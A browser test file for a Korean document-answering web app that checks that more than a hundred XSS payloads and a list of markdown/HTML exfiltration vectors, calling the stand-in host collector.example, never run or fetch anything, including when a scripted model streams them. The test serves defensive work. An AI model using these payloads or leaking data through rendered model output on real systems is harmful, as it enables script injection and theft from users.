# ruff: noqa: E501 (tables of payloads)
"""Rows 5 and 9 in a real Chromium: nothing that a document, a model or a person writes is run, fetched or followed."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

import malmoi as package
from malmoi.conversation import ConversationStore
from malmoi.types import Support
from servers.scripted import Reply, ScriptedServer
from web.small import Script, SmallMalmoi, app_of

from .conftest import Open, ask, serving

pytestmark = pytest.mark.browser
OUT = "https://collector.example"
FIRED = "window.fired = []; window.x = n => window.fired.push(n);"

_HANDLERS = (
    "onerror onload onfocus onmouseover onanimationstart ontoggle onbegin onpageshow onwheel onpointerenter".split()
)
_TAGS = """
<img src=x {h}=x(1)>|<svg {h}=x(1)>|<body {h}=x(1)>|<details open {h}=x(1)>|<input autofocus {h}=x(1)>
|<video src=x {h}=x(1)></video>|<marquee {h}=x(1)>|<p tabindex=1 autofocus style=animation-name:a {h}=x(1)>
""".strip().split("|")  # fmt: skip
_OTHERS = [
    "<script>x(1)</script>", "<ScRiPt>x(1)</sCrIpT>", "<script\n>x(1)</script\n>", "<<script>x(1)//<</script>",
    "<script src=https://collector.example/x.js></script>", "<script type=module>import('https://collector.example/x')</script>",
    "<scr<script>ipt>x(1)</scr</script>ipt>", "</script><script>x(1)</script>", "<!--><script>x(1)</script>-->",
    "<iframe srcdoc='<script>parent.x(1)</script>'></iframe>", "<iframe src=javascript:parent.x(1)></iframe>",
    "<object data=javascript:x(1)></object>", "<embed src=javascript:x(1)>", "<a href=javascript:x(1) id=a>a</a>",
    "<a href='java&#9;script:x(1)'>a</a>", "<form action=javascript:x(1)><button autofocus>b</button></form>",
    "<math><mtext></p><img src=x onerror=x(1)>", "<svg><animate onbegin=x(1) attributeName=x dur=1s>",
    "<svg><script>x(1)</script></svg>", "<svg><a xlink:href=javascript:x(1)><text>a</text></a></svg>",
    "<noscript><p title='</noscript><img src=x onerror=x(1)>'>", "<template><img src=x onerror=x(1)></template>",
    "<style>@import 'https://collector.example/x.css';</style>", "<link rel=stylesheet href=https://collector.example/x>",
    "<base href=https://collector.example/>", "<meta http-equiv=refresh content='0;url=https://collector.example/'>",
    "\"><img src=x onerror=x(1)>", "'><img src=x onerror=x(1)>", "`><img src=x onerror=x(1)>", "--><img src=x onerror=x(1)>",
    "]]><img src=x onerror=x(1)>", "</title><img src=x onerror=x(1)>", "</textarea><img src=x onerror=x(1)>",
    "${x(1)}", "{{constructor.constructor('x(1)')()}}", "#{x(1)}", "<%= x(1) %>", "`+x(1)+`", "';x(1);//", "\";x(1);//",
    "\\u003cimg src=x onerror=x(1)\\u003e", "&lt;img src=x onerror=x(1)&gt;", "&#60;img src=x onerror=x(1)&#62;",
    "%3Cimg%20src=x%20onerror=x(1)%3E", "＜img src=x onerror=x(1)＞", "<img src=x onerror\x0b=x(1)>", "<img/src=x/onerror=x(1)>",
    "<img src=x onerror=x&lpar;1&rpar;>", "[a](javascript:x(1))", "![a](x\"onerror=x(1))", "<javascript:x(1)>",
    "[a]: javascript:x(1)", "<x onclick=x(1) autofocus contenteditable onfocus=x(1)>", "<dialog open onclose=x(1)>",
    "<isindex type=image src=1 onerror=x(1)>", "<img src=x:x onerror=window.x(1) alt='닫힘'>", "한글<b onmouseover=x(1)>굵게</b>",
    "<div style=background:url(https://collector.example/c)>", "<table background=https://collector.example/t>",
    "<audio src=https://collector.example/a autoplay>", "<img srcset=https://collector.example/s>", "<input type=image src=x onerror=x(1)>",
]  # fmt: skip
PAYLOADS = [tag.strip().format(h=handler) for handler in _HANDLERS for tag in _TAGS] + _OTHERS
EXFILTRATION = [
    f"![그림]({OUT}/a?q=비밀)", f"![그림][1x]\n\n[1x]: {OUT}/b", f"[자세히]({OUT}/c)", f"<img src={OUT}/d>",
    f"<a href={OUT}/e>e</a>", f"<{OUT}/f>", f"{OUT}/g", "https://xn--pple-43d.example/h", f"<link rel=prefetch href={OUT}/i>",
    f"<meta http-equiv=refresh content=0;url={OUT}/j>", f"<style>a{{background:url({OUT}/k)}}</style>",
    f"<div style='background:url({OUT}/l)'>l</div>", "[m](javascript:fetch('/m'))", "![n](data:image/svg+xml,<svg onload=x(1)>)",
    f"![o]({OUT.replace('https:', '')}/o)", f"[![p]({OUT}/p)]({OUT}/p)", f"<video poster={OUT}/q></video>",
    f"<svg><image href={OUT}/r /></svg>", f"<iframe src={OUT}/s></iframe>", "ftp://collector.example/t",
    f"![u]({OUT}/u \"제목\")", f"[v]:{OUT}/v\n[v]", f"<img src='{OUT}/w' /><object data={OUT}/w>", f"`<img src={OUT}/y>`",
]  # fmt: skip


PARTS = {"sample": PAYLOADS[::5], "first half": PAYLOADS[::2], "second half": PAYLOADS[1::2]}
"""The page lists a hundred documents at once."""


def fired(page: Page) -> int:
    """Payloads that ran, and elements that none of our templates has."""
    live = "#mm-main :is(img, form:not([data-ours]), iframe, script, video, audio, object, embed, style, base, meta)"
    return int(page.evaluate(f"window.fired.length + document.querySelectorAll({live!r}).length"))


@pytest.mark.parametrize(
    "part", [pytest.param(part, marks=[] if part == "sample" else pytest.mark.slow) for part in PARTS]
)
def test_no_payload_runs_anywhere(open_page: Open, malmoi: SmallMalmoi, part: str) -> None:
    payloads = PARTS[part]
    sentences = []
    for number, payload in enumerate(payloads):
        name = f"{number} {payload}.txt".replace("/", "∕")
        malmoi.add_bytes(name, f"제목\n\n본문 {number}: {payload}\n".encode())
        document = next(d for d in malmoi.held.values() if d.name == name)
        malmoi.put(replace(document, title=payload, publisher=payload, author=payload, date="2031-01-02"))
        sentences.append((payload, [*Support][number % 4], payload, [f"본문 {number}:"]))
    for at in range(0, len(sentences), 30):
        malmoi.scripts[f"물음 {at}"] = Script(
            sentences[at : at + 30], lead=payloads[at], notice=payloads[at], answerer=f"llm:{payloads[at]}", drafts=True
        )
    malmoi.questions = tuple(payloads[:4])
    store = ConversationStore(malmoi.settings.index_dir)
    for payload in payloads:
        store.create(payload)
    store.close()
    page = open_page()
    page.context.add_init_script(FIRED)
    page.reload()
    page.wait_for_selector("body.ready")
    expect(page.locator(".suggestions button").first).to_have_text(payloads[0])
    ran = fired(page)
    for at in range(0, len(sentences), 30):
        ask(page, f"물음 {at}")
        ran += fired(page)
    page.locator("#mm-live a.cite").first.click()
    expect(page.locator(".panel mark")).to_be_visible()
    ran += fired(page)
    page.keyboard.press("Escape")
    page.locator("#mm-sidebar").get_by_role("button", name="문서").click()
    expect(page.locator(".held li")).to_have_count(len(malmoi.held))
    ran += fired(page)
    page.reload()
    expect(page.locator("#mm-turns .turn").first).to_be_visible()
    ran += fired(page)
    viewed = list(malmoi.held.values())[-len(payloads) :]
    for document in viewed:
        page.goto(f"/document/{document.id}")
        ran += int(page.evaluate("window.fired.length + document.querySelectorAll('img, form, iframe, video').length"))
    surfaces = "answer streamed and kept, citation, panel, file name, title, publisher, conversation, view"
    print(f"row 9: {ran} executions of {len(payloads)} payloads in each of: {surfaces}; suggestions 4")  # noqa: T201
    assert ran == 0
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize(
    "size",
    [
        3,
        pytest.param(1, marks=pytest.mark.slow),
        pytest.param(2, marks=pytest.mark.slow),
        pytest.param(7, marks=pytest.mark.slow),
        pytest.param(400, marks=pytest.mark.slow),
    ],
)
def test_a_model_leads_the_browser_nowhere(open_page: Open, browser: Browser, tmp_path: Path, size: int) -> None:
    """Cut into pieces of so many characters, so that an address or a tag is complete only in the end."""
    said = "\n\n".join(f"가온교의 공사비는 120억 원이다 {line} 라고 한다.[1]" for line in EXFILTRATION)
    reply = Reply([said[at : at + size] for at in range(0, len(said), size)])
    with (
        ScriptedServer(reply) as server,
        package.open(
            tmp_path / "index", embedding__engine="none", llm__base_url=server.base_url, llm__api_key="test-key-9f3a",
            llm__model="scripted", llm__timeout_s=120,
        ) as collection,
    ):  # fmt: skip
        collection.add_bytes("다리.txt", f"가온교\n\n가온교의 공사비는 120억 원이다. {OUT}/g 에 있다.".encode())
        with serving(app_of(collection)) as url:
            page = open_page(base=url)
            requests: list[str] = []
            page.context.on("request", lambda request: requests.append(request.url))
            ask(page, "가온교의 공사비는 얼마인가?")
            live = page.locator("#mm-live .answer")
            expect(live).to_contain_text("120억")
            links = live.evaluate("e => [...e.querySelectorAll('a')].map(a => a.getAttribute('href'))")
            page.reload()
            expect(page.locator("#mm-turns .answer")).to_contain_text("120억")
            outside = [r for r in requests if not r.startswith((url, "data:image/svg+xml;", "blob:"))]
            print(f"row 5: {len(outside)} requests outside for {len(EXFILTRATION)} ways in pieces of {size}")  # noqa: T201
            assert outside == []
            assert [link for link in links if not link.startswith(("#cite-", "#passage-"))] == []
            page.close()
